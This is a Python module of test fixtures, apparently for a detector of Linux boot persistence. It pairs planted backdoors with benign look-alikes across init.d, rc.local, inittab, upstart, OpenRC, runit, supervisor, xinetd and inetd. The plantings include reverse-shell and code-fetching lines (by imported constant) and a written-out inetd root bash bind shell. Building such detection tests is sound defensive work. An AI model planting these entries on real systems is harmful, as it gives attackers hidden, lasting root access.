"""Init of every kind but systemd: init.d, rc.local, inittab, OpenRC, runit, supervisors."""

from __future__ import annotations

from typing import Final

from plantings.case import Case, Twin, both, link, put, run, shell
from plantings.command import FETCH, HIDDEN, NOHUP_BACK, SH_BACK, hidden, program, tool

_GROUP: Final = "SysV/other init"
_ID: Final = "T1037.004"
_SUPERVISED: Final = "T1543"
_RC: Final = "/etc/rc.local"
_HEAD: Final = (
    "### BEGIN INIT INFO",
    "# Provides: {0}",
    "# Default-Start: 2 3 4 5",
    "### END INIT INFO",
)


def _init(name: str, *lines: str) -> str:
    return shell(*(text.format(name) for text in _HEAD), 'case "$1" in start)', *lines, ";; esac")


_INIT: Final = Twin(
    "init-d-own",
    "a script that starts an application of one's own",
    "/etc/init.d/orders",
    both(
        program("/opt/orders/bin/orders"),
        run(
            "/etc/init.d/orders",
            _init("orders", "start-stop-daemon --start --exec /opt/orders/bin/orders"),
        ),
        link("/etc/rc2.d/S02orders", "../init.d/orders"),
    ),
)
_RC_LOCAL: Final = Twin(
    "rc-local-tuning",
    "a setting of a disk at boot",
    _RC,
    run(_RC, shell("/sbin/hdparm -B 255 /dev/sda", "exit 0")),
)


def _own(slug: str, path: str, text: str, *, bits: int = 0o644) -> Twin:
    """An application of one's own, started at that place."""
    return Twin(
        slug,
        "an application of one's own",
        path,
        both(program("/opt/orders/bin/orders"), put(path, text, bits)),
    )


def _supervised(slug: str, path: str, bad: str, good: str, *, bits: int = 0o644) -> Case:
    """A hidden program, or one's own application, at the same place."""
    act = both(hidden(), put(path, bad.format(HIDDEN), bits))
    twin = _own(f"{slug}-own", path, good.format("/opt/orders/bin/orders"), bits=bits)
    return Case(slug, _GROUP, _SUPERVISED, "a hidden program that is kept alive", path, act, twin)


CASES: Final = (
    Case(
        "init-d",
        _GROUP,
        _ID,
        "a script that connects back",
        "/etc/init.d/ssh-procps",
        both(
            run("/etc/init.d/ssh-procps", _init("ssh-procps", NOHUP_BACK)),
            link("/etc/rc2.d/S01ssh-procps", "../init.d/ssh-procps"),
        ),
        _INIT,
        "setup_initd_backdoor",
    ),
    Case(
        "init-d-program",
        _GROUP,
        _ID,
        "a script that starts a program of no package",
        "/etc/init.d/netfs-mount",
        both(
            program("/usr/sbin/netfs-mountd"),
            run("/etc/init.d/netfs-mount", _init("netfs-mount", "/usr/sbin/netfs-mountd &")),
        ),
        _INIT,
    ),
    Case(
        "rc-local",
        _GROUP,
        _ID,
        "a line that connects back",
        _RC,
        run(_RC, f"#!/bin/bash\n{SH_BACK}\n"),
        _RC_LOCAL,
        "setup_rc_local_backdoor",
    ),
    Case(
        "rc-d-rc-local",
        _GROUP,
        _ID,
        "a line that fetches code",
        "/etc/rc.d/rc.local",
        run("/etc/rc.d/rc.local", shell(FETCH)),
        _RC_LOCAL,
    ),
    Case(
        "inittab",
        _GROUP,
        _ID,
        "a shell that init keeps alive",
        "/etc/inittab",
        put("/etc/inittab", f"id:2:initdefault:\nx1:2345:respawn:{SH_BACK}\n"),
        Twin(
            "inittab-getty",
            "logins on a serial line",
            "/etc/inittab",
            put(
                "/etc/inittab",
                "id:2:initdefault:\nT0:23:respawn:/sbin/agetty -L ttyS0 9600 vt100\n",
            ),
        ),
    ),
    Case(
        "upstart",
        _GROUP,
        _SUPERVISED,
        "a job of upstart that connects back",
        "/etc/init/dbus-helper.conf",
        put("/etc/init/dbus-helper.conf", f"start on runlevel [2345]\nrespawn\nexec {SH_BACK}\n"),
        _own(
            "upstart-own",
            "/etc/init/orders.conf",
            "start on runlevel [2345]\nexec /opt/orders/bin/orders\n",
        ),
    ),
    Case(
        "openrc-local",
        _GROUP,
        _ID,
        "a script that fetches code at boot",
        "/etc/local.d/net.start",
        run("/etc/local.d/net.start", shell(FETCH)),
        Twin(
            "openrc-local-own",
            "a setting of a disk at boot",
            "/etc/local.d/disk.start",
            run("/etc/local.d/disk.start", shell("/sbin/hdparm -B 255 /dev/sda")),
        ),
    ),
    _supervised(
        "runit",
        "/etc/sv/net/run",
        "#!/bin/sh\nexec {}\n",
        "#!/bin/sh\nexec chpst -u www-data {}\n",
        bits=0o755,
    ),
    _supervised(
        "runit-service",
        "/etc/service/log-net/run",
        "#!/bin/sh\nexec {}\n",
        "#!/bin/sh\nexec {}\n",
        bits=0o755,
    ),
    _supervised(
        "s6",
        "/etc/s6/net/run",
        "#!/bin/execlineb -P\n{}\n",
        "#!/bin/execlineb -P\n{}\n",
        bits=0o755,
    ),
    _supervised(
        "supervisor",
        "/etc/supervisor/conf.d/net.conf",
        "[program:net]\ncommand={} -d\n",
        "[program:orders]\ncommand={} --port 8080\nuser=www-data\n",
    ),
    _supervised(
        "monit",
        "/etc/monit/conf.d/net",
        'check process net with pidfile /run/net.pid\n  start program = "{}"\n',
        'check process orders with pidfile /run/orders.pid\n  start program = "{}"\n',
    ),
    _supervised(
        "pm2",
        "/root/.pm2/dump.pm2",
        '[{{"name":"api","pm_exec_path":"{}","exec_interpreter":"none"}}]\n',
        '[{{"name":"orders","pm_exec_path":"{}","exec_interpreter":"none"}}]\n',
    ),
    _supervised(
        "xinetd",
        "/etc/xinetd.d/ident",
        "service ident\n{{\n\tsocket_type = stream\n\tuser = root\n\tserver = {}\n}}\n",
        "service orders\n{{\n\tsocket_type = stream\n\tuser = www-data\n\tserver = {}\n}}\n",
    ),
    Case(
        "inetd",
        _GROUP,
        _SUPERVISED,
        "a shell for whoever connects",
        "/etc/inetd.conf",
        put("/etc/inetd.conf", "ingreslock stream tcp nowait root /bin/bash bash -i\n"),
        Twin(
            "inetd-tool",
            "the length of the queue for whoever asks",
            "/etc/inetd.conf",
            both(
                tool("/usr/local/sbin/queue"),
                put(
                    "/etc/inetd.conf", "qlen stream tcp nowait nobody /usr/local/sbin/queue queue\n"
                ),
            ),
        ),
    ),
)
